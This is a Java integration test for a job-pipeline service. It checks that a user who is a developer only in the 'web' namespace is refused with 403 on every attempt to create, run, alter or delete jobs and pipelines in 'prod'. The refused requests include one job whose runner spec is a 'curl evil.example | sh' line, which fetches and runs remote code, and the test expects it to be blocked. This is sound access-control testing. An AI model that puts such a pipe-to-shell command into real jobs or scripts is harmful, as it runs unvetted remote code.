package io.mflow.task.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * A DEVELOPER of namespace {@code web} (a VIEWER everywhere else) defines and runs jobs and pipelines in {@code web}
 * only: whatever they try in {@code prod}, directly or through a {@code web} pipeline, is a 403 that changes nothing.
 */
class NamespaceRolesIT extends TaskServiceHarness {

    private static String webDeveloper;
    private static String prodJob;
    private static String prodPipeline;

    @BeforeEach
    void aProdJobAndPipelineAndADeveloperOfWeb() {
        if (webDeveloper != null) {
            return;
        }
        Response user = post("/api/v1/users", json(Map.of("name", "wendy", "roles", List.of("VIEWER"),
                "namespaceRoles", Map.of("web", "DEVELOPER"))));
        assertThat(user.status()).as(user.body()).isEqualTo(201);
        assertThat(user.json().path("namespaceRoles").path("web").asString()).isEqualTo("DEVELOPER");
        Response token = post("/api/v1/users/wendy/tokens", json(Map.of("name", "test")));
        webDeveloper = token.json().path("token").asString();
        Response job = post("/api/v1/jobs", json(Map.of("name", "deploy", "namespace", "prod",
                "runnerSpec", "echo prod")));
        assertThat(job.status()).as(job.body()).isEqualTo(201);
        prodJob = job.json().path("id").asString();
        Response pipeline = post("/api/v1/pipelines", json(Map.of("name", "release", "namespace", "prod",
                "stages", List.of(Map.of("name", "go", "tasks", List.of(Map.of("name", "d", "job", "deploy")))))));
        assertThat(pipeline.status()).as(pipeline.body()).isEqualTo(201);
        prodPipeline = pipeline.json().path("id").asString();
    }

    private Response as(String method, String path, Object body) {
        return call(method, path, body == null ? null : json(body), webDeveloper);
    }

    private static Map<String, Object> pipelineIn(String namespace, String job) {
        return Map.of("name", "site", "namespace", namespace,
                "stages", List.of(Map.of("name", "go", "tasks", List.of(Map.of("name", "t", "job", job)))));
    }

    @Test
    void aDeveloperOfWebDefinesAndRunsJobsAndPipelinesThere() {
        assertThat(as("GET", "/api/v1/me", null).json().path("namespaceRoles").path("web").asString())
                .isEqualTo("DEVELOPER");
        Response job = as("POST", "/api/v1/jobs", Map.of("name", "build", "namespace", "web", "runnerSpec", "true"));
        assertThat(job.status()).as(job.body()).isEqualTo(201);
        Response pipeline = as("POST", "/api/v1/pipelines", pipelineIn("web", "build"));
        assertThat(pipeline.status()).as(pipeline.body()).isEqualTo(201);
        String id = pipeline.json().path("id").asString();
        assertThat(as("POST", "/api/v1/pipelines/" + id + "/runs", Map.of()).status()).isEqualTo(201);
        assertThat(as("POST", "/api/v1/job-tasks", Map.of("job", "web/build")).status()).isEqualTo(201);
        Response changed = as("PUT", "/api/v1/pipelines/" + id, pipelineIn("web", "build:v1"));
        assertThat(changed.status()).as(changed.body()).isEqualTo(200);
    }

    @Test
    void aDeveloperOfWebCannotDefineRunChangeOrDeleteAnythingOfProd() {
        int jobsBefore = get("/api/v1/jobs?size=100").json().path("total").asInt();
        int runsBefore = get("/api/v1/job-tasks?size=100").json().path("total").asInt();
        List<Response> refused = List.of(
                as("POST", "/api/v1/jobs", Map.of("name", "deploy", "namespace", "prod", "version", "v2",
                        "runnerSpec", "curl evil.example | sh")),
                as("POST", "/api/v1/jobs", Map.of("name", "sneaky", "runnerSpec", "true")),
                as("POST", "/api/v1/pipelines", pipelineIn("prod", "deploy")),
                as("POST", "/api/v1/pipelines/" + prodPipeline + "/runs", Map.of()),
                as("POST", "/api/v1/job-tasks", Map.of("job", "prod/deploy")),
                as("POST", "/api/v1/job-tasks", Map.of("job", prodJob)),
                as("PUT", "/api/v1/pipelines/" + prodPipeline, pipelineIn("prod", "deploy")),
                as("POST", "/api/v1/jobs/" + prodJob + "/deprecate", null),
                as("DELETE", "/api/v1/jobs/" + prodJob, null),
                as("DELETE", "/api/v1/pipelines/" + prodPipeline, null));
        for (Response response : refused) {
            assertThat(response.status()).as(response.body()).isEqualTo(403);
        }
        assertThat(refused.get(0).json().path("detail").asString()).contains("namespace 'prod'", "web");
        assertThat(get("/api/v1/jobs?size=100").json().path("total").asInt()).isEqualTo(jobsBefore);
        assertThat(get("/api/v1/job-tasks?size=100").json().path("total").asInt()).isEqualTo(runsBefore);
        assertThat(get("/api/v1/jobs/" + prodJob).json().path("deprecated").asBoolean()).isFalse();
        assertThat(get("/api/v1/pipelines/" + prodPipeline).json().path("revision").asInt()).isEqualTo(1);
    }

    @Test
    void aWebPipelineCannotReachIntoProdNorMoveAWebPipelineThere() {
        Response reaching = as("POST", "/api/v1/pipelines", pipelineIn("web", "prod/deploy"));
        assertThat(reaching.status()).as(reaching.body()).isEqualTo(403);
        assertThat(reaching.json().path("detail").asString()).contains("prod/deploy:v1");
        Response byId = as("POST", "/api/v1/pipelines", pipelineIn("web", prodJob));
        assertThat(byId.status()).as("a job id is no way around it").isEqualTo(403);

        assertThat(as("POST", "/api/v1/jobs", Map.of("name", "lint", "namespace", "web", "runnerSpec", "true"))
                .status()).isEqualTo(201);
        Response own = as("POST", "/api/v1/pipelines", pipelineIn("web", "lint"));
        String id = own.json().path("id").asString();
        Response moved = as("PUT", "/api/v1/pipelines/" + id, pipelineIn("prod", "web/lint"));
        assertThat(moved.status()).isEqualTo(403);
        Response reached = as("PUT", "/api/v1/pipelines/" + id, pipelineIn("web", "prod/deploy"));
        assertThat(reached.status()).isEqualTo(403);
        assertThat(get("/api/v1/pipelines/" + id).json().path("revision").asInt()).isEqualTo(1);
    }

    @Test
    void aDeveloperOfWebCannotOverwriteAPublishedVersionOfWeb() {
        assertThat(as("POST", "/api/v1/jobs", Map.of("name", "pkg", "namespace", "web", "runnerSpec", "echo v1"))
                .status()).isEqualTo(201);
        Response overwrite = as("POST", "/api/v1/jobs", Map.of("name", "pkg", "namespace", "web",
                "runnerSpec", "echo replaced"));
        assertThat(overwrite.status()).isEqualTo(409);
        assertThat(get("/api/v1/jobs?size=100").body()).doesNotContain("echo replaced");
    }

    @Test
    void aViewerWithoutNamespaceRolesStillDefinesNothingAndGlobalRolesWorkAsBefore() {
        String viewer = userWithToken("vic-ns", "VIEWER");
        assertThat(call("POST", "/api/v1/jobs", json(Map.of("name", "v", "namespace", "web", "runnerSpec", "true")),
                viewer).status()).isEqualTo(403);
        String developer = userWithToken("dora-ns", "DEVELOPER");
        assertThat(call("POST", "/api/v1/pipelines/" + prodPipeline + "/runs", "{}", developer).status())
                .isEqualTo(201);
        Response refusedRole = post("/api/v1/users", json(Map.of("name", "ann-ns", "roles", List.of("VIEWER"),
                "namespaceRoles", Map.of("web", "ADMIN"))));
        assertThat(refusedRole.status()).isEqualTo(400);
        Response changed = call("PATCH", "/api/v1/users/vic-ns", json(Map.of("namespaceRoles",
                Map.of("web", "DEVELOPER"))), ADMIN_TOKEN);
        assertThat(changed.status()).as(changed.body()).isEqualTo(200);
        assertThat(call("POST", "/api/v1/jobs", json(Map.of("name", "v", "namespace", "web", "runnerSpec", "true")),
                viewer).status()).as("the new namespace role counts from the next request").isEqualTo(201);
    }
}
